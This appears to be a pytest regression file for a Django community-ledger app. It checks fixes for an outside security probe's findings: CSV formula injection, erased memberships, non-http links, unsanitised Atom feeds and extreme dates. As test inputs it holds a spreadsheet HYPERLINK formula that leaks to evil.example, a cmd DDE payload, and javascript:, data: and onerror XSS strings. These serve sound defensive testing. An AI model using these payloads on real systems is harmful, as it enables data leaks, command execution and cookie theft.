"""Issue #15, items 2, 3, 6, 7 and 8: each finding of the outside probe, reproduced.

2. formula injection in CSV exports; 3. an erased account stays an active member;
6. ``javascript:`` links; 7. raw source in the Atom feed; 8. extreme dates.
"""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta
from decimal import Decimal
from typing import Any

import feedparser
import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from kring.core.csv_export import neutralise
from kring.core.errors import DomainError

EVIL = '=HYPERLINK("http://evil.example/?leak","XF")'


def _login(user: Any) -> Client:
    client = Client()
    client.force_login(user)
    return client


def _expense(network: Any, payer: Any, member_ids: list[int] | None, cents: int, **kw: Any) -> Any:
    from kring.ledger.services import record_expense

    return record_expense(
        actor=payer,
        network=network,
        payer_id=payer.pk,
        amount_cents=cents,
        spent_on=kw.pop("spent_on", date(2026, 11, 1)),
        description=kw.pop("description", "Zaalhuur"),
        category="venue",
        split_method="equal",
        member_ids=member_ids,
        **kw,
    )


# --- 2. One CSV writer, formulas neutralised --------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (EVIL, "'" + EVIL),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("-12,50", "-12,50"),
        ("+3.5", "+3.5"),
        (-1250, -1250),
        ("Zaalhuur", "Zaalhuur"),
        (None, ""),
    ],
)
def test_cells_that_spreadsheets_run_are_neutralised(value: Any, expected: Any) -> None:
    assert neutralise(value) == expected


def test_ledger_csv_neutralises_descriptions_and_notes(
    host: Any, member: Any, network: Any
) -> None:
    """Regression: an expense description or transfer note landed in export.csv as a formula."""
    from kring.ledger.services import record_transfer

    _expense(network, host, [host.pk, member.pk], 1000, description=EVIL)
    record_transfer(actor=member, network=network, payee_id=host.pk, cents=500, note=EVIL)
    response = _login(host).get(
        reverse("ledger:export", args=[network.slug]),
        {"what": "ledger", "separator": ";", "decimal": ",", "start": "2026-01-01"},
    )
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + EVIL in cells and cells.count("'" + EVIL) == 2
    assert not any(cell.startswith("=") for cell in cells)
    assert "-5,00" in cells or "5,00" in cells  # amounts stay numbers


def test_personal_data_export_csv_is_neutralised(member: Any) -> None:
    import zipfile

    from kring.privacy.services import build_export

    member.profile.display_name = EVIL
    member.profile.save()
    archive = zipfile.ZipFile(io.BytesIO(build_export(user=member)))
    text = archive.read("csv/people.Profile.csv").decode()
    assert "'" + EVIL.replace('"', '""') in text


# --- 3. Erasure ends every membership -------------------------------------------------------


@pytest.fixture
def erased(network: Any, host: Any, member: Any) -> Any:
    from kring.networks.tests.factories import MembershipFactory
    from kring.people.tests.factories import UserFactory
    from kring.privacy.services import erase_account

    user = UserFactory(email="leaving@test.example", profile__display_name="Lea Leaving")
    MembershipFactory(network=network, user=user)
    erase_account(user=user)
    return user


def test_erasure_ends_every_membership_and_keeps_it_for_history(erased: Any) -> None:
    from kring.networks.models import Membership, MembershipStatus

    ms = Membership.objects.filter(user=erased)
    assert ms.count() == 1
    assert {m.status for m in ms} == {MembershipStatus.ERASED}
    assert not Membership.objects.current().filter(user=erased).exists()


def test_an_equal_split_no_longer_charges_a_former_member(
    erased: Any, host: Any, member: Any, network: Any
) -> None:
    """Regression: an equal split without a member list charged "Former member" a share."""
    expense = _expense(network, host, None, 1000)
    assert {s.user_id for s in expense.shares.all()} == {host.pk, member.pk}


def test_an_introduction_round_leaves_a_former_member_out(
    erased: Any, host: Any, member: Any, network: Any
) -> None:
    from kring.introductions.selectors import active_member_ids, eligible_member_ids

    assert erased.pk not in active_member_ids(network)
    assert erased.pk not in eligible_member_ids(network)


def test_directory_and_api_no_longer_list_a_former_member(
    erased: Any, host: Any, network: Any, api_client: Any
) -> None:
    page = _login(host).get(reverse("net:directory", args=[network.slug])).content.decode()
    assert reverse("net:person", args=[network.slug, erased.pk]) not in page
    members = api_client(host).get(f"/api/v1/networks/{network.slug}/members").json()
    assert erased.pk not in {m["id"] for m in members}
    # and the person's page is gone like any non-member's
    assert (
        _login(host).get(reverse("net:person", args=[network.slug, erased.pk])).status_code == 404
    )


def test_a_host_cannot_revive_an_erased_membership(erased: Any, host: Any) -> None:
    from kring.networks.models import Membership
    from kring.networks.services import set_membership_status

    membership = Membership.objects.get(user=erased)
    with pytest.raises(DomainError):
        set_membership_status(actor=host, membership=membership, status="active")
    with pytest.raises(DomainError):
        set_membership_status(
            actor=host, membership=Membership.objects.get(user=host), status="erased"
        )


# --- 6. Only http(s) links ----------------------------------------------------------------


@pytest.fixture
def objective(host: Any, network: Any) -> Any:
    from kring.results.services import create_objective

    today = timezone.localdate()
    return create_objective(
        actor=host,
        network=network,
        title="Uren",
        target=Decimal(100),
        period_start=today - timedelta(days=30),
        period_end=today + timedelta(days=30),
    )


@pytest.mark.parametrize(
    "link",
    ["javascript:alert(document.cookie)", "data:text/html,<script>x</script>", "ftp://x.org/a"],
)
def test_the_api_refuses_links_that_are_not_http(
    link: str, objective: Any, member: Any, api_client: Any
) -> None:
    """Regression: the API accepted ``javascript:`` as a contribution's evidence_url."""
    response = api_client(member).post(
        f"/api/v1/objectives/{objective.pk}/contributions",
        {"amount": "2", "date": str(timezone.localdate()), "evidence_url": link},
        content_type="application/json",
    )
    assert response.status_code in {400, 422}, response.content
    assert "evidence_url" in response.content.decode()


def test_the_web_forms_refuse_links_that_are_not_http(objective: Any, member: Any) -> None:
    from kring.results.models import Contribution

    response = _login(member).post(
        reverse("results:objective", args=[objective.network.slug, objective.pk]),
        {"amount": "2", "date": str(timezone.localdate()), "evidence_url": "javascript:alert(1)"},
    )
    assert response.status_code in {200, 400}
    assert not Contribution.objects.exists()


def test_every_link_field_refuses_other_schemes(host: Any, network: Any) -> None:
    from kring.gatherings.services import add_agenda_item, create_gathering

    start = timezone.now() + timedelta(days=3)
    with pytest.raises(DomainError) as exc:
        create_gathering(
            actor=host,
            network=network,
            title="x",
            starts_at=start,
            ends_at=start + timedelta(hours=1),
            online_url="javascript:alert(1)",
        )
    assert exc.value.field == "online_url"
    gathering = create_gathering(
        actor=host,
        network=network,
        title="x",
        starts_at=start,
        ends_at=start + timedelta(hours=1),
        online_url="https://meet.example/abc",
    )
    with pytest.raises(DomainError) as exc:
        add_agenda_item(actor=host, gathering=gathering, title="y", prep_url="JavaScript:x")
    assert exc.value.field == "prep_url"


# --- 7. The Atom feed carries sanitised HTML ---------------------------------------------------


def test_atom_feed_carries_sanitised_html_not_the_source(member: Any, network: Any) -> None:
    """Regression: the feed carried the raw Markdown/HTML source as type="html"."""
    from kring.knowledge.services import create_post

    network.public_page_enabled = True
    network.save()
    create_post(
        actor=member,
        network=network,
        title="Open",
        summary="<img src=x onerror=alert(1)> & more",
        body="**Bold** <script>alert(1)</script> [x](javascript:alert(2))",
        visibility="public",
    )
    raw = Client().get(reverse("public:feed", args=[network.slug])).content.decode()
    feed = feedparser.parse(raw)
    entry = feed.entries[0]
    content = entry.content[0]
    assert content.type == "text/html"
    assert "<strong>Bold</strong>" in content.value
    for bad in ("<script", "javascript:", "**Bold**"):
        assert bad not in content.value
    # the typed summary is text: escaped once as HTML (so readers show it literally)
    assert "&amp;lt;img src=x onerror=alert(1)&amp;gt; &amp;amp; more" in raw
    assert "<img" not in entry.summary


# --- 8. Dates in a sensible range -------------------------------------------------------------


@pytest.mark.parametrize("end", ["0001-01-01", "9999-12-31", "1999-12-31"])
def test_ledger_export_with_an_extreme_date_is_a_clear_error(
    end: str, host: Any, network: Any
) -> None:
    """Regression: ledger/export.csv?end=0001-01-01 raised OverflowError (500)."""
    client = _login(host)
    response = client.get(
        reverse("ledger:export", args=[network.slug]),
        {"what": "ledger", "separator": ";", "decimal": ",", "end": end},
        follow=True,
    )
    assert response.status_code == 200
    assert "Kies een datum tussen" in response.content.decode() or "Choose a date between" in (
        response.content.decode()
    )


def test_transfers_and_expenses_refuse_far_dates(host: Any, member: Any, network: Any) -> None:
    from kring.ledger.services import record_transfer

    with pytest.raises(DomainError) as exc:
        record_transfer(
            actor=member, network=network, payee_id=host.pk, cents=100, paid_on=date(9999, 12, 31)
        )
    assert exc.value.field == "paid_on"
    with pytest.raises(DomainError) as exc:
        _expense(network, host, None, 100, spent_on=date(1, 1, 1))
    assert exc.value.field == "spent_on"


def test_the_api_refuses_far_dates(host: Any, member: Any, network: Any, api_client: Any) -> None:
    client = api_client(member)
    response = client.post(
        f"/api/v1/networks/{network.slug}/transfers",
        {"payee_id": host.pk, "cents": 100, "date": "9999-12-31"},
        content_type="application/json",
    )
    assert response.status_code == 400
    assert response.json()["errors"][0]["field"] == "paid_on"
    listing = client.get(f"/api/v1/networks/{network.slug}/expenses?end=0001-01-01")
    assert listing.status_code == 400


@pytest.mark.parametrize(
    ("start", "end"),
    [("0001-01-01", "9998-12-31"), ("2026-01-01", "9999-12-31"), ("2001-01-01", "2026-01-01")],
)
def test_objectives_refuse_extreme_periods(
    start: str, end: str, host: Any, network: Any, api_client: Any
) -> None:
    """Regression: period_end 9999-12-31 broke the page; 0001-9998 rendered 3 MB."""
    response = api_client(host).post(
        f"/api/v1/networks/{network.slug}/objectives",
        {"title": "x", "target": "10", "period_start": start, "period_end": end},
        content_type="application/json",
    )
    assert response.status_code == 400, response.content
    assert response.json()["errors"][0]["field"] in {"period_start", "period_end"}


def test_an_objective_page_survives_extreme_stored_dates(
    objective: Any, member: Any, network: Any
) -> None:
    """Data stored before the bound still renders, and small."""
    from kring.results.models import Objective

    Objective.objects.filter(pk=objective.pk).update(
        period_start=date(1, 1, 1), period_end=date(9999, 12, 31)
    )
    response = _login(member).get(reverse("results:objective", args=[network.slug, objective.pk]))
    assert response.status_code == 200
    assert len(response.content) < 300_000


def test_gathering_form_refuses_far_dates(host: Any, network: Any) -> None:
    from kring.gatherings.models import Gathering

    response = _login(host).post(
        reverse("gatherings:new", args=[network.slug]),
        {"title": "Far", "starts_at": "9999-12-31T19:00", "ends_at": "9999-12-31T21:00"},
    )
    assert response.status_code in {200, 400}
    assert not Gathering.objects.filter(title="Far").exists()
